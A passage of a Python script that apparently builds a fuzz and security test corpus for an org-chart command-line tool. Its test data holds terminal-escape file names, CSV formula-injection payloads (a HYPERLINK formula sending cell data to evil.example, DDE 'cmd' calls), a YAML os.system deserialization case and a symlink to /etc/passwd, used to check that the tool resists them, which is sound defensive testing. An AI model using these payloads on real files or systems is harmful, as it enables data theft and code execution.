        "member-surrogate": chart(tail="groups:\n  g: {name: G, members: [a, " + ystr("x\udc00") + "]}\n"),
        "raw-esc-byte": chart("  root: {name: Root\x1b[2J, kind: office}\n"),
        "raw-nul-byte": chart("  root: {name: Root\x00, kind: office}\n"),
        "raw-del-byte": chart("  root: {name: Root\x7f, kind: office}\n"),
        "raw-c1-byte-utf8": chart("  root: {name: Root\u009b2J, kind: office}\n"),
        "raw-bidi-in-key": chart(UNITS_SMALL + "  b\u202e: {name: B, kind: unit, reports_to: root}\n"),
        "raw-cr-in-key": chart(UNITS_SMALL + "  b\rc: {name: B, kind: unit, reports_to: root}\n"),
        "raw-nel-in-value": chart("  root: {name: Root\u0085x, kind: office}\n"),
        "raw-lsep-in-key": chart(UNITS_SMALL + "  b\u2028c: {name: B, kind: unit, reports_to: root}\n"),
        "latin1-esc": b"orgchart: 1\ntitle: \xe9\x1b[2J\nunits: {}\n",
        "duplicate-key-esc": chart("  " + ystr("r\x1b[1m") + ": {name: R, kind: office}\n  " + ystr("r\x1b[1m") + ": {name: R, kind: office}\n"),
        "version-esc": chart().replace("orgchart: 1", "orgchart: " + ystr("1\x1b[2J")),
        "baseline-esc-missing": chart(top="baseline: " + ystr("\x1b[2J\x1b[31mmissing.yaml") + "\nrulebooks: [peace-security-2017]\n"),
        "rulebook-name-esc": chart(top="rulebooks: [" + ystr("pillar\x1b[2J") + "]\n"),
        "direction-esc": chart(tail="layout:\n  direction: " + ystr("TB\x1b[2J") + "\n"),
    }
    for label, text in bad.items():
        p = w(f"control/bad-{label}.yaml", text)
        expect = "any" if label == "baseline-esc-missing" else ("either" if label == "raw-nel-in-value" else "bad")
        add(f"ctrl-bad-{label}", "control", ["check", str(p.relative_to(CORPUS))], expect)
    # file names with controls
    evil = "control/\x1b[31mred\x1b]0;pwned\x07\r\u202e.yaml"
    w(evil, chart())
    evil_bad = "control/\x1b[2Jbad\r\u202e\x9b.yaml"
    w(evil_bad, "orgchart: 1\ntitle: x\nunits: {}\nbogus: 1\n")
    add("ctrl-filename-check-valid", "control", ["check", evil], "valid")
    add("ctrl-filename-check-json", "control", ["check", "--format", "json", evil], "valid")
    add("ctrl-filename-check-bad", "control", ["check", evil_bad], "bad")
    add("ctrl-filename-trace-nounit", "control", ["trace", evil, "nosuchunit"], "any")
    add("ctrl-filename-diff", "control", ["diff", evil, "control/findings-esc.yaml"], "any")
    add("ctrl-filename-diff-md", "control", ["diff", "--format", "markdown", evil, "control/findings-esc-b.yaml"], "any")
    add("ctrl-filename-export-nounit", "control", ["export", evil, "--unit", "zzz", "-o", o("evil-unit.svg")], "export", o("evil-unit.svg"), "fresh", "svg")
    add("ctrl-filename-missing", "control", ["check", "control/\x1b[2Jmissing\r.yaml"], "bad")
    add("ctrl-arg-trace-unit-esc", "control", ["trace", "control/name-esc.yaml", "\x1b[2J\x1b]0;pwned\x07\u202e"], "any")
    add("ctrl-arg-export-unit-esc", "control", ["export", "control/name-esc.yaml", "--unit", "\x1b[2J\r", "-o", o("unit-esc.svg")], "export", o("unit-esc.svg"), "fresh", "svg")
    add("ctrl-arg-output-esc-nodir", "control", ["export", "control/name-esc.yaml", "-o", str(ROOT / "out") + "/nodir\x1b[2J/x\r.svg"], "export")
    add("ctrl-arg-output-esc-suffix", "control", ["export", "control/name-esc.yaml", "-o", o("x.\x1b[2Jsvg")], "export")
    add("ctrl-arg-import-esc-missing", "control", ["import", "control/\x1b[2Jmissing\r.csv", "-o", o("imp-esc.yaml")], "bad")
    add("ctrl-export-csv-names", "control", ["export", "control/findings-esc.yaml", "-o", o("esc-names.csv")], "export", o("esc-names.csv"), "fresh", "csv")
    add("ctrl-export-dot-names", "control", ["export", "control/findings-esc.yaml", "-o", o("esc-names.dot")], "export", o("esc-names.dot"), "fresh", "dot")


def _formula_post(path: str):
    def post(r: Result) -> list[tuple[str, str]]:
        p = Path(path)
        if r.exit != 0 or not p.exists():
            return []
        import csv as _csv
        for row in list(_csv.reader(p.read_text(errors="replace").splitlines()))[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell[:1] != "" and not re.fullmatch(r"-?\d+", cell):
                    return [("FORMULA", f"cell {cell!r} written unescaped")]
        return []
    return post


def build_csv() -> None:
    hdr = "id,name,reports_to,kind,posts\n"
    csvs = {
        "cr-unquoted": (hdr + "root,Root,,office,\na,A\rB,root,unit,\n", "either"),
        "cr-quoted-name": (hdr + 'root,Root,,office,\na,"A\rOVERWRITE",root,unit,\n', "either"),
        "crlf-rows": (hdr.replace("\n", "\r\n") + "root,Root,,office,\r\na,A,root,unit,\r\n", "valid"),
        "cr-only-rows": (hdr.replace("\n", "\r") + "root,Root,,office,\ra,A,root,unit,\r", "either"),
        "unclosed-quote": (hdr + 'root,"Root,,office,\na,A,root,unit,\n', "bad"),
        "unclosed-quote-eof": (hdr + 'root,Root,,office,\na,"A', "bad"),
        "quote-in-unquoted": (hdr + 'root,Ro"ot,,office,\n', "either"),
        "short-row": (hdr + "root,Root\na\n", "either"),
        "long-row": (hdr + "root,Root,,office,,x,y,z\n", "bad"),
        "posts-1e30": (hdr + f"root,Root,,office,{10**30}\n", "bad"),
        "posts-5000-digits": (hdr + f"root,Root,,office,{BIG}\n", "bad"),
        "posts-neg": (hdr + "root,Root,,office,-5\n", "bad"),
        "posts-float": (hdr + "root,Root,,office,1.0e400\n", "bad"),
        "posts-nan": (hdr + "root,Root,,office,nan\n", "bad"),
        "posts-hex": (hdr + "root,Root,,office,0x1f\n", "either"),
        "posts-fullwidth-digits": (hdr + "root,Root,,office,\uff11\uff12\n", "either"),
        "posts-underscore": (hdr + "root,Root,,office,1_000\n", "either"),
        "huge-field-5mb": (hdr + "root," + "N" * 5_000_000 + ",,office,\n", "either"),
        "huge-quoted-field-2mb": (hdr + 'root,"' + "x," * 1_000_000 + '",,office,\n', "either"),
        "nul-byte": (hdr + "root,Ro\x00ot,,office,\n", "bad"),
        "header-esc": ("id,name,\x1b[2Jevil\x1b]0;x\x07,kind\nroot,Root,x,office\n", "bad"),
        "header-bidi": ("id,name\u202e,kind\nroot,Root,office\n", "bad"),
        "header-dup": ("id,id,name,kind\nroot,root,Root,office\n", "bad"),
        "header-missing-id": ("name,kind\nRoot,office\n", "bad"),
        "header-only": (hdr, "bad"),
        "empty": ("", "bad"),
        "bom": ("\ufeff" + hdr + "root,Root,,office,\n", "valid"),
        "utf16": (None, "bad"),
        "latin1": (None, "bad"),
        "id-esc": (hdr + "root,Root,,office,\n\x1b[2Jx,X,root,unit,\n", "bad"),
        "name-esc": (hdr + "root,Root\x1b[2J\x1b]0;pwned\x07,,office,\n", "either"),
        "name-bidi": (hdr + "root,Root\u202e,,office,\n", "either"),
        "name-c1": (hdr + "root,Root\u009b31m,,office,\n", "either"),
        "kind-esc": (hdr + "root,Root,,off\x1b[1mice,\n", "bad"),
        "reports-esc": (hdr + "root,Root,,office,\na,A,ro\x1b[8mot,unit,\n", "bad"),
        "reports-scope-bogus": (hdr + "root,Root,,office,\na,A,root@bogus\x1b[2J,unit,\n", "bad"),
        "dup-ids": (hdr + "root,Root,,office,\nroot,Root2,,office,\n", "bad"),
        "cycle": (hdr + "a,A,b,office,\nb,B,a,office,\n", "either"),
        "semicolon-quotes": ('id;name;kind\nroot;"Ro;ot";office\n', "either"),
        "tab-delim": ("id\tname\tkind\nroot\tRoot\toffice\n", "either"),
        "one-column": ("id\nroot\n", "bad"),
        "10k-columns": (",".join(["id", "name", "kind"] + [f"c{i}" for i in range(10_000)]) + "\nroot,Root,office" + ",x" * 10_000 + "\n", "bad"),
        "header-1mb": ("id,name,kind," + "h" * 1_000_000 + "\nroot,Root,office,x\n", "bad"),
        "rows-200k-bad-kinds": (None, "bad"),
    }
    for label, (text, expect) in csvs.items():
        rel = f"csv/{label}.csv"
        if label == "utf16":
            w(rel, (hdr + "root,Root,,office,\n").encode("utf-16"))
        elif label == "latin1":
            w(rel, (hdr + "root,R\xe9sum\xe9,,office,\n").encode("latin-1"))
        elif label == "rows-200k-bad-kinds":
            # 200k rows with bad kinds (3.6 MB): error collection must stay bounded
            w(rel, hdr + "".join(f"u{i},U,,bogus{i},\n" for i in range(200_000)))
        else:
            w(rel, text.encode("utf-8", "surrogatepass"))
        outp = o(f"csv-{label}.yaml")
        add(f"csv-{label}", "csv", ["import", rel, "-o", outp], expect, outp, "fresh", "yaml")
    # formula prefixes: import keeps them as text; CSV export must not emit live formulas
    w("csv/formula.csv", hdr + "root,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",,office,\n"
      "a,+cmd|' /C calc'!A0,root,unit,\nb,-2+3,root,unit,\nc,@SUM(1+1)*cmd|' /C calc'!A0,root,unit,\nd,\"\t=1+1\",root,unit,\n")
    add("csv-formula-import", "csv", ["import", "csv/formula.csv", "-o", o("formula.yaml")], "either", o("formula.yaml"), "fresh", "yaml")
    p = w("csv/formula-chart.yaml", chart(
        "  root: {name: '=HYPERLINK(\"http://evil.example\",\"x\")', kind: office, short: '=1+1'}\n"
        "  a: {name: '+cmd|'' /C calc''!A0', kind: unit, reports_to: root, head: {title: '@SUM(A1)', rank: D-1}}\n"
        "  b: {name: '-2+3', kind: unit, reports_to: root}\n"))
    add("csv-formula-export", "csv", ["export", str(p.relative_to(CORPUS)), "-o", o("formula.csv")], "export", o("formula.csv"), "fresh", "csv",
        post=_formula_post(o("formula.csv")))
    # special files given as the CSV
    for label, target in (("fifo", "paths/fifo.yaml"), ("dev-zero", "/dev/zero"), ("dev-urandom", "/dev/urandom"),
                          ("folder", "paths/folder.yaml"), ("symlink-loop", "paths/loop.yaml"), ("sparse-10g", "paths/sparse.yaml"),
                          ("proc-self-mem", "/proc/self/mem")):
        add(f"csv-special-{label}", "csv", ["import", target, "-o", o(f"csv-special-{label}.yaml")], "bad", o(f"csv-special-{label}.yaml"), "fresh", "yaml")


def build_big_csv() -> None:
    # 1M rows, ~31 MB: over the 20 MB limit
    with (CORPUS / "csv").joinpath("rows-1m.csv").open("w") as fh:
        fh.write("id,name,reports_to\nr0000000,Root,\n")
        fh.writelines(f"u{i:07d},Unit {i:07d},r0000000\n" for i in range(1, 1_000_000))
    add("csv-rows-1m-31mb", "csv", ["import", "csv/rows-1m.csv", "-o", o("rows-1m.yaml")], "either", o("rows-1m.yaml"), "fresh", "yaml", heavy=True)
    # just under 20 MB (~ 620k rows): the chart written must load again
    with (CORPUS / "csv").joinpath("rows-19mb.csv").open("w") as fh:
        fh.write("id,name,reports_to\nr0,Root,\n")
        size, i = 20, 1
        lines = []
        while size < 19.9 * 1024 * 1024:
            parent = "r0" if i <= 10 else f"u{(i - 1) // 10}"
            line = f"u{i},Unit {i},{parent}\n"
            lines.append(line)
            size += len(line)
            i += 1
        fh.writelines(lines)
    add("csv-rows-19.9mb-tree", "csv", ["import", "csv/rows-19mb.csv", "-o", o("rows-19mb.yaml")], "either", o("rows-19mb.yaml"), "fresh", "yaml", heavy=True)
    with (CORPUS / "csv").joinpath("rows-100k.csv").open("w") as fh:
        fh.write("id,name,reports_to,kind,posts\nroot,Root,,office,1\n")
        fh.writelines(f"u{i},Unit {i},{'root' if i < 50 else 'u' + str(i // 50)},unit,{i % 7}\n" for i in range(1, 100_000))
    add("csv-rows-100k", "csv", ["import", "csv/rows-100k.csv", "-o", o("rows-100k.yaml")], "either", o("rows-100k.yaml"), "fresh", "yaml", heavy=True)


def build_yaml_misc() -> None:
    alias = ("orgchart: 1\ntitle: t\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
             "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nunits: {r: {name: R, kind: office}}\n")
    misc = {
        "python-object-apply": chart(top="description: !!python/object/apply:os.system ['touch " + o("PWNED-chart") + "']\n"),
        "python-name": chart(top="description: !!python/name:os.system\n"),
        "str-tag": chart(top="description: !!str x\n"),
        "local-tag": chart(top="description: !foo x\n"),
        "tag-directive": "%TAG !e! tag:example.com,2000:\n---\n" + chart(top="description: !e!x y\n"),
        "yaml-directive-1.1": "%YAML 1.1\n---\n" + chart(),
        "alias-bomb": alias,
        "anchor-only": chart(top="description: &x text\n"),
        "two-documents": chart() + "---\n" + chart(),
        "complex-key": chart(UNITS_SMALL + "  ? [b, c]\n  : {name: B, kind: unit}\n"),
        "tab-indent": chart("\troot: {name: Root, kind: office}\n"),
        "duplicate-unit": chart(UNITS_SMALL + "  a: {name: A2, kind: unit, reports_to: root}\n"),
        "duplicate-top": chart() + "title: again\n",
        "unknown-top": chart(top="report_to: x\n"),
        "empty": "",
        "whitespace": "   \n\n  \n",
        "comment-only": "# nothing\n",
        "null-doc": "~\n",
        "scalar-doc": "hello\n",
        "list-doc": "- 1\n- 2\n",
        "units-empty": chart("").replace("units:\n", "units: {}\n"),
        "units-list": "orgchart: 1\ntitle: t\nunits: [root]\n",
        "utf16": None,
        "bom-utf8": "\ufeff" + chart(),
        "invalid-utf8": None,
        "deep-nesting-1m": "orgchart: 1\ntitle: t\nunits: " + "[" * 1_000_000 + "]" * 1_000_000 + "\n",
        "deep-nesting-map": "orgchart: 1\ntitle: t\nunits: " + "{a: " * 100_000 + "b" + "}" * 100_000 + "\n",
        "many-errors-100k": chart("".join(f"  u{i}: {{name: U, kind: unit, reports_to: root, bogus{i}: 1}}\n" for i in range(100_000))),
        "many-dup-keys": chart("  root: {name: R, kind: office}\n" + "  x: {name: U, kind: unit}\n" * 100_000),
        "suggest-100k": chart("  root: {name: R, kind: office}\n" + "".join(f"  unit{i:06d}: {{name: U, kind: unit, reports_to: unit{i:06d}x}}\n" for i in range(100_000))),
        "over-20mb": None,
        "long-line-19mb-comment": chart() + "# " + "x" * (19 * 1024 * 1024) + "\n",
        "cycle": chart("  a: {name: A, kind: office, reports_to: b}\n  b: {name: B, kind: office, reports_to: a}\n"),
        "self-report": chart("  a: {name: A, kind: office, reports_to: a}\n"),
        "presence-non-mission": chart("  a: {name: A, kind: office, presence: peacekeeping}\n"),
        "region-not-in-vocab": chart("  a: {name: A, kind: office, regions: [Mars]}\n", top="regions: [Africa]\n"),
        "empty-name": chart("  a: {name: '', kind: office}\n"),
        "name-null": chart("  a: {name: ~, kind: office}\n"),
        "layout-unknown-id": chart(tail="layout:\n  positions: {ghost: [0, 0]}\n  collapsed: [ghost2]\n"),
        "link-unknown": chart(tail="links:\n  - {from: a, to: ghost, kind: informs}\n"),
        "scope-all-twice": chart(UNITS_SMALL + "  b: {name: B, kind: unit, reports_to: [{to: root, scope: all}, {to: a, scope: all}]}\n"),
        "id-uppercase": chart(UNITS_SMALL + "  Bad: {name: B, kind: unit, reports_to: root}\n"),
        "id-group-clash": chart(tail="groups:\n  a: {name: G, members: [root]}\n"),
    }
    for label, text in misc.items():
        rel = f"yaml/{label}.yaml"
        if label == "utf16":
            w(rel, chart().encode("utf-16"))
        elif label == "invalid-utf8":
            w(rel, chart().encode() + b"  b: {name: \xff\xfe, kind: unit}\n")
        elif label == "over-20mb":
            body = chart()
            w(rel, body + "#" * (MAX_CHART + 1 - len(body) - 1) + "\n")
        else:
            w(rel, text)
        expect = "valid" if label in ("yaml-directive-1.1", "bom-utf8", "long-line-19mb-comment", "cycle", "self-report", "scope-all-twice") else "bad"
        c = add(f"yaml-{label}", "yaml", ["check", rel], expect, heavy=label in ("deep-nesting-1m", "many-errors-100k", "many-dup-keys", "suggest-100k", "long-line-19mb-comment"))
        if label == "python-object-apply":
            c.post = lambda r: [("EXECUTED", "marker file created")] if (OUT / "PWNED-chart").exists() else []
    add("yaml-trace-cycle", "yaml", ["trace", "yaml/cycle.yaml", "a"], "valid")
    add("yaml-trace-self-report", "yaml", ["trace", "yaml/self-report.yaml", "a"], "valid")
    add("yaml-export-cycle-svg", "yaml", ["export", "yaml/cycle.yaml", "-o", o("cycle.svg")], "export", o("cycle.svg"), "fresh", "svg")
    add("yaml-export-cycle-pptx", "yaml", ["export", "yaml/cycle.yaml", "-o", o("cycle.pptx")], "export", o("cycle.pptx"), "fresh", "pptx")


def build_sizes() -> None:
    target = int(19.9 * 1024 * 1024)
    # flat: 200k units under one root, names padded to ~19.9 MB
    n = 200_000
    head = "orgchart: 1\ntitle: big flat\nunits:\n  root: {name: Root, kind: office}\n"
    per = (target - len(head)) // n
    lines = []
    for i in range(n):
        stem = f"  u{i:06d}: {{name: 'Unit {i} ', kind: unit, reports_to: root}}\n"
        pad = max(per - len(stem), 0)
        lines.append(stem.replace(f"'Unit {i} '", f"'Unit {i} {'x' * pad}'"))
    big_flat = head + "".join(lines)
    w("sizes/flat-200k-19.9mb.yaml", big_flat)
    # the same with 500 units renamed, 500 moved under u000001, 1000 removed
    mod = big_flat.replace("'Unit 1", "'Renamed 1", 500)
    mod_lines = mod.split("\n")
    for k in range(10, 510):
        mod_lines[3 + k] = mod_lines[3 + k].replace("reports_to: root", "reports_to: u000001")
    del mod_lines[2000:3000]
    w("sizes/flat-200k-mod.yaml", "\n".join(mod_lines))
    # flat 500k in flow style (must fit under 20 MiB)
    parts = ["orgchart: 1\ntitle: flat 500k\nunits: {r: {name: R,kind: office},\n"]
    for i in range(1, 500_000):
        parts.append(f"{b36(i + 36)}: {{name: a,kind: unit,reports_to: r}},")
        if i % 100 == 0:
            parts.append("\n")
    parts.append("}\n")
    flat500 = "".join(parts)
    if len(flat500.encode()) < MAX_CHART:
        w("sizes/flat-500k.yaml", flat500)
        have500 = True
    else:
        have500 = False
    # deep: one chain of ~19.9 MB
    chain_lines = ["orgchart: 1\ntitle: big chain\nunits:\n  c0: {name: C0, kind: office}\n"]
    size, i = len(chain_lines[0]), 1
    while True:
        line = f"  c{i}: {{name: C{i}, kind: unit, reports_to: c{i - 1}}}\n"
        if size + len(line) > target:
            break
        chain_lines.append(line)
        size += len(line)
        i += 1
    deep_last = f"c{i - 1}"
    w("sizes/chain-19.9mb.yaml", "".join(chain_lines))
    # chain 20,000 deep
    c20 = "orgchart: 1\ntitle: chain 20k\nunits:\n  c0: {name: C0, kind: office}\n" + "".join(
        f"  c{i}: {{name: C{i}, kind: unit, reports_to: c{i - 1}}}\n" for i in range(1, 20_000))
    w("sizes/chain-20k.yaml", c20)
    w("sizes/chain-20k-mod.yaml", c20.replace("reports_to: c10000}", "reports_to: c5}").replace("name: C19999,", "name: Renamed,"))
    # many chains: 300 chains x 500 deep = 150k units
    mc = ["orgchart: 1\ntitle: many chains\nunits:\n  root: {name: Root, kind: office}\n"]
    for ch in range(300):
        for d in range(500):
            parent = "root" if d == 0 else f"k{ch}-{d - 1}"
            mc.append(f"  k{ch}-{d}: {{name: K {ch} {d}, kind: unit, reports_to: {parent}}}\n")
    w("sizes/chains-300x500.yaml", "".join(mc))
    # a unit with a 10 MB name (words, so that text wrapping works hard)
    words = ("Office of the Assistant Secretary-General for Everything ")
    name10 = (words * (10 * 1024 * 1024 // len(words) + 1))[: 10 * 1024 * 1024].rstrip()
    w("sizes/name-10mb.yaml", chart(f"  root: {{name: '{name10}', kind: office}}\n  a: {{name: A, kind: department, reports_to: root, short: '{name10[:1000]}'}}\n"))
    # a 5 MB id (valid per the id pattern)
    big_id = "a" * (5 * 1024 * 1024)
    # (a plain key is limited to 1024 characters by YAML: the explicit '? key' form has no limit)
    w("sizes/id-5mb.yaml", chart(f"  ? {big_id}\n  : {{name: Root, kind: office}}\n  b: {{name: B, kind: unit, reports_to: {big_id}}}\n"))
    # just under a 50,000-unit cap (if the loader has one): 49,999 units padded to ~19.9 MB, and a chain 49,999 deep
    n = 49_999
    head = "orgchart: 1\ntitle: flat 49999\nunits:\n  root: {name: Root, kind: office}\n"
    per = (target - len(head)) // n
    words = "Section for Coordination of Integrated Regional Affairs and "
    lines = []
    for i in range(n - 1):
        stem = f"  s{i:05d}: {{name: 'S{i} ', kind: section, reports_to: root}}\n"
        pad = (words * 20)[: max(per - len(stem), 0)]
        lines.append(stem.replace(f"'S{i} '", f"'S{i} {pad}'"))
    w("sizes/flat-49999-19.9mb.yaml", head + "".join(lines))
    w("sizes/chain-49999.yaml", "orgchart: 1\ntitle: chain 49999\nunits:\n  c0: {name: C0, kind: office}\n" + "".join(
        f"  c{i}: {{name: C{i}, kind: unit, reports_to: c{i - 1}}}\n" for i in range(1, 49_999)))
    # 100,000 links among 1,000 units
    units = "  u0: {name: U0, kind: office}\n" + "".join(f"  u{i}: {{name: U{i}, kind: unit, reports_to: u{(i - 1) // 10}}}\n" for i in range(1, 1000))
    kinds = ["informs", "advises", "supports", "manages", "functional", "coordinates"]
    links = "".join(f"  - {{from: u{i}, to: u{(i + k) % 1000}, kind: {kinds[(i + k) % 6]}}}\n" for i in range(1000) for k in range(1, 101))
    w("sizes/links-100k.yaml", chart(units, tail="links:\n" + links))
    # a group with 100,000 members
    units = "  root: {name: Root, kind: office}\n" + "".join(f"  m{i}: {{name: M{i}, kind: unit, reports_to: {'root' if i < 10 else 'm' + str(i // 10)}}}\n" for i in range(100_000))
    members = ", ".join(f"m{i}" for i in range(100_000))
    w("sizes/group-100k.yaml", chart(units, tail=f"groups:\n  g: {{name: Big group, members: [{members}]}}\n"))
    # posts everywhere, large but legal
    w("sizes/posts-max.yaml", chart("  root: {name: R, kind: office, posts: 10000000}\n" + "".join(
        f"  p{i}: {{name: P{i}, kind: unit, reports_to: root, posts: 10000000}}\n" for i in range(10_000))))

    S = "sizes/"
    for label, rel in (("flat-200k", "flat-200k-19.9mb.yaml"), ("chain-19.9mb", "chain-19.9mb.yaml"), ("chain-20k", "chain-20k.yaml"),
                       ("chains-300x500", "chains-300x500.yaml"), ("name-10mb", "name-10mb.yaml"), ("id-5mb", "id-5mb.yaml"),
                       ("links-100k", "links-100k.yaml"), ("group-100k", "group-100k.yaml"), ("posts-max", "posts-max.yaml")):
        add(f"size-{label}-check", "sizes", ["check", S + rel], "valid", heavy=True)
    for label, rel in (("flat-49999", "flat-49999-19.9mb.yaml"), ("chain-49999", "chain-49999.yaml")):
        add(f"size-{label}-check", "sizes", ["check", S + rel], "valid", heavy=True)
        for fmt in ("svg", "png", "pdf", "pptx"):
            add(f"size-{label}-export-{fmt}", "sizes", ["export", S + rel, "-o", o(f"{label}.{fmt}")], "export", o(f"{label}.{fmt}"), "fresh", fmt, heavy=True)
    add("size-flat-49999-export-yaml", "sizes", ["export", S + "flat-49999-19.9mb.yaml", "-o", o("flat49999.yaml")], "export", o("flat49999.yaml"), "fresh", "yaml", heavy=True)
    add("size-chain-49999-trace-deepest", "sizes", ["trace", S + "chain-49999.yaml", "c49998"], "valid", heavy=True)
    add("size-diff-flat-49999-vs-chain-49999", "sizes", ["diff", S + "flat-49999-19.9mb.yaml", S + "chain-49999.yaml"], "valid", heavy=True)
    add("size-flat-200k-check-json", "sizes", ["check", "--format", "json", S + "flat-200k-19.9mb.yaml"], "valid", heavy=True)
    if have500:
        add("size-flat-500k-check", "sizes", ["check", S + "flat-500k.yaml"], "valid", heavy=True)
        add("size-flat-500k-trace", "sizes", ["trace", S + "flat-500k.yaml", b36(499_999 + 36)], "valid", heavy=True)
        add("size-flat-500k-export-svg", "sizes", ["export", S + "flat-500k.yaml", "-o", o("flat500k.svg")], "export", o("flat500k.svg"), "fresh", "svg", heavy=True)
        add("size-flat-500k-export-csv", "sizes", ["export", S + "flat-500k.yaml", "-o", o("flat500k.csv")], "export", o("flat500k.csv"), "fresh", "csv", heavy=True)
        add("size-diff-flat-500k-self", "sizes", ["diff", S + "flat-500k.yaml", S + "flat-500k.yaml"], "valid", heavy=True)
    else:
        print(f"note: flat-500k does not fit under 20 MiB ({len(flat500)} bytes); skipped", file=sys.stderr)
    for fmt in ("svg", "pdf", "png", "pptx"):
        for label, rel in (("flat-200k", "flat-200k-19.9mb.yaml"), ("chain-20k", "chain-20k.yaml"), ("chains-300x500", "chains-300x500.yaml"),
                           ("name-10mb", "name-10mb.yaml"), ("links-100k", "links-100k.yaml"), ("group-100k", "group-100k.yaml")):
            add(f"size-{label}-export-{fmt}", "sizes", ["export", S + rel, "-o", o(f"{label}.{fmt}")], "export", o(f"{label}.{fmt}"), "fresh", fmt, heavy=True)
    add("size-chain-19.9mb-export-svg", "sizes", ["export", S + "chain-19.9mb.yaml", "-o", o("chain199.svg")], "export", o("chain199.svg"), "fresh", "svg", heavy=True)
    add("size-chain-19.9mb-export-yaml", "sizes", ["export", S + "chain-19.9mb.yaml", "-o", o("chain199.yaml")], "export", o("chain199.yaml"), "fresh", "yaml", heavy=True)
    add("size-flat-200k-export-yaml", "sizes", ["export", S + "flat-200k-19.9mb.yaml", "-o", o("flat200k.yaml")], "export", o("flat200k.yaml"), "fresh", "yaml", heavy=True)
    add("size-flat-200k-export-graphml", "sizes", ["export", S + "flat-200k-19.9mb.yaml", "-o", o("flat200k.graphml")], "export", o("flat200k.graphml"), "fresh", "graphml", heavy=True)
    add("size-chain-20k-export-unit", "sizes", ["export", S + "chain-20k.yaml", "--unit", "c10", "-o", o("chain20k-branch.svg")], "export", o("chain20k-branch.svg"), "fresh", "svg", heavy=True)
    add("size-chain-20k-trace-deepest", "sizes", ["trace", S + "chain-20k.yaml", "c19999"], "valid", heavy=True)
    add("size-chain-20k-trace-mission", "sizes", ["trace", "--scope", "mission", S + "chain-20k.yaml", "c19999"], "valid", heavy=True)
    add("size-chain-19.9mb-trace-deepest", "sizes", ["trace", S + "chain-19.9mb.yaml", deep_last], "valid", heavy=True)
    add("size-chains-300x500-trace", "sizes", ["trace", S + "chains-300x500.yaml", "k299-499"], "valid", heavy=True)
    add("size-name-10mb-trace", "sizes", ["trace", S + "name-10mb.yaml", "a"], "valid", heavy=True)
    add("size-id-5mb-trace", "sizes", ["trace", S + "id-5mb.yaml", "b"], "valid", heavy=True)
    add("size-diff-flat-200k", "sizes", ["diff", S + "flat-200k-19.9mb.yaml", S + "flat-200k-mod.yaml"], "valid", heavy=True)
    add("size-diff-flat-200k-json", "sizes", ["diff", "--format", "json", S + "flat-200k-19.9mb.yaml", S + "flat-200k-mod.yaml"], "valid", heavy=True)
    add("size-diff-chain-20k", "sizes", ["diff", S + "chain-20k.yaml", S + "chain-20k-mod.yaml"], "valid", heavy=True)
    add("size-diff-chain-vs-flat", "sizes", ["diff", "--format", "markdown", S + "chain-19.9mb.yaml", S + "flat-200k-19.9mb.yaml"], "valid", heavy=True)
    add("size-diff-links-vs-group", "sizes", ["diff", S + "links-100k.yaml", S + "group-100k.yaml"], "valid", heavy=True)


def build_targets() -> None:
    t = OUT / "targets"
    t.mkdir(parents=True, exist_ok=True)
    small = "examples/small.yaml"
    w(small, chart(UNITS_SMALL + "  b: {name: B, kind: unit, reports_to: a, posts: 3}\n", tail="links:\n  - {from: b, to: root, kind: informs}\n"))
    victim = t / "victim.txt"
    victim.write_text("victim file: must never change\n")
    old = b"OLD CONTENT - must be fully replaced or stay byte-identical\n"
    for fmt in ("svg", "pdf", "png", "pptx", "yaml", "csv", "dot", "graphml"):
        p = t / f"existing.{fmt}"
        p.write_bytes(old)
        add(f"target-existing-{fmt}", "targets", ["export", small, "-o", str(p)], "export", str(p), "existing", fmt)
    for label, args in (("badchart", ["export", "yaml/unknown-top.yaml"]), ("nounit", ["export", small, "--unit", "ghost"]),
                        ("badscale", ["export", small, "--scale", "0"]), ("nanscale", ["export", small, "--scale", "nan"]),
                        ("infscale", ["export", small, "--scale", "inf"])):
        p = t / f"existing-{label}.png"
        p.write_bytes(old)
        add(f"target-existing-fail-{label}", "targets", args + ["-o", str(p)], "export", str(p), "existing", "png")
    p = t / "existing-hardlink.svg"
    p.write_bytes(old)
    os.link(p, t / "hardlink-other.svg")
    add("target-existing-hardlinked", "targets", ["export", small, "-o", str(p)], "export", str(p), "existing", "svg")
    specials = {}
    for fmt in ("svg", "pptx", "yaml", "png"):
        s = t / f"symlink-to-victim.{fmt}"
        os.symlink(victim, s)
        specials[f"symlink-{fmt}"] = (s, fmt)
    s = t / "dangling.svg"; os.symlink(t / "nowhere.svg", s); specials["symlink-dangling"] = (s, "svg")
    s = t / "link-to-dir.svg"; os.symlink(t, s); specials["symlink-to-dir"] = (s, "svg")
    s = t / "link-to-etc-passwd.csv"; os.symlink("/etc/passwd", s); specials["symlink-to-etc-passwd"] = (s, "csv")
    for fmt in ("svg", "yaml", "pptx", "pdf"):
        s = t / f"fifo.{fmt}"; os.mkfifo(s); specials[f"fifo-{fmt}"] = (s, fmt)
    for fmt in ("svg", "yaml", "png"):
        s = t / f"chardev-null.{fmt}"
        try:
            os.mknod(s, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
            specials[f"chardev-{fmt}"] = (s, fmt)
        except OSError as exc:
            print(f"note: cannot mknod ({exc}); char-device cases skipped", file=sys.stderr)
    for fmt in ("svg", "yaml", "pdf"):
        s = t / f"folder.{fmt}"; s.mkdir(); (s / "keep.txt").write_text("keep\n"); specials[f"folder-{fmt}"] = (s, fmt)
    for label, (s, fmt) in specials.items():
        add(f"target-{label}", "targets", ["export", small, "-o", str(s)], "export", str(s), "special", fmt)
    # import -o onto the same kinds of destinations
    w("csv/ok.csv", "id,name,reports_to\nroot,Root,\na,A,root\n")
    for label in ("symlink-yaml", "fifo-yaml", "folder-yaml", "chardev-yaml"):
        if label in specials:
            add(f"target-import-{label}", "targets", ["import", "csv/ok.csv", "-o", str(specials[label][0])], "export", str(specials[label][0]), "special", "yaml")
    p = t / "import-existing.yaml"
    p.write_bytes(old)
    add("target-import-existing", "targets", ["import", "csv/ok.csv", "-o", str(p)], "export", str(p), "existing", "yaml")
    p = t / "import-existing-fail.yaml"
